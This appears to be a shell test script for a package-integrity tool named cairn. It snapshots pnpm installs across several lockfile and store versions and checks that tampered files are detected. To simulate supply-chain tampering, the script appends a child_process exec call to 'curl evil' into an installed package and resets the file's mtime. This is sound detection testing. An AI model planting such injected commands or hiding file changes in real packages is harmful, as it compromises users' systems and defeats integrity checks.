#!/bin/sh
# pnpm installs made by the real pnpm 7, 8, 9 and 10 (lockfileVersion 5.4,
# 6.0, 9.0; store v3 and v10; tests/tools/pnpm-fixtures.sh made them):
# one package record per folder of node_modules/.pnpm, locked and
# installed side by side, the project's links resolved (required_by,
# declared_range), every file checked against the store's index, and no
# "no committed lockfile" finding.  Then a file changed after install (its
# mtime put back) is named by package and path, without a baseline; and a
# pnpm project without --pnpm-store is recorded unverified (files null).
set -eu
. "$CAIRN_SRC/tests/cli/lib.sh"
need jq jq
need zstd zstd
fx="$CAIRN_SRC/tests/fixtures/packages"
pkgs() {
	zstd -dcq "$1" | jq -c 'select(.type == "package") | [.path, .manager, .version,
		.locked_version, .declared_range, [.required_by[].from], .flags, .files.status,
		.files.matching, .files.source]'
}
proj() {
	zstd -dcq "$1" | jq -c 'select(.type == "npm_project") | [.manager, .manager_version,
		.lockfile, .lockfile_version, .lock_entries, .installed, .registry_host]'
}
findings() {
	cairn-report --snapshot "$1" --format json --no-timestamp | jq -c '.findings[] | [.id // .rule, .severity, .title]'
}
# v3 named by its own folder, v10 by the store root holding it
for v in v5:pnpm-store/v3 v6:pnpm-store/v3 v9:pnpm-store/v3 v10:pnpm-store; do
	store=${v#*:}
	v=${v%%:*}
	fixture_copy "$fx/pnpm-$v" "$v"
	run cairn-snap -q --pnpm-store "$fx/$store" -o "$v.cairn" "$v"
	proj "$v.cairn"
	pkgs "$v.cairn"
	echo "findings:"
	findings "$v.cairn"
done

# tampered after install, mtime put back: named without a baseline
# a second past the copy's ctimes (rules.c INSTALL_WINDOW_NS), so that the
# put-back mtime is always seen (CAIRN-T01), however slow the build
sleep 2
f=v9/node_modules/.pnpm/ms@2.1.2/node_modules/ms/index.js
printf '\n;require("child_process").exec("curl evil")\n' >> "$f"
touch -d '2026-01-01 00:00:00 UTC' "$f"
echo 'x' > v9/node_modules/.pnpm/debug@4.3.4/node_modules/debug/src/extra.js
# the same size, other bytes: only the digest can tell
f=v9/node_modules/.pnpm/is-number@7.0.0/node_modules/is-number/index.js
sed -i 's/module\.exports/module.exp0rts/' "$f"
touch -d '2026-01-01 00:00:00 UTC' "$f"
run cairn-snap -q --pnpm-store "$fx/pnpm-store/v3" -o t.cairn v9
zstd -dcq t.cairn | jq -c 'select(.type == "package" and (.flags | length) > 0) | [.name, .flags, .files.modified, .files.added]'
findings t.cairn

# no store given: recorded, not verified
run cairn-snap -q -o n.cairn v10
pkgs n.cairn

# the lockfile alone (nothing installed yet): locked, not installed, and
# still no "no committed lockfile"
mkdir lockonly
cp "$fx/pnpm-v9/package.json" "$fx/pnpm-v9/pnpm-lock.yaml" lockonly/
run cairn-snap -q -o l.cairn lockonly
proj l.cairn
zstd -dcq l.cairn | jq -c 'select(.type == "package") | [.path, .locked_version, .flags]'
echo "findings:"
findings l.cairn
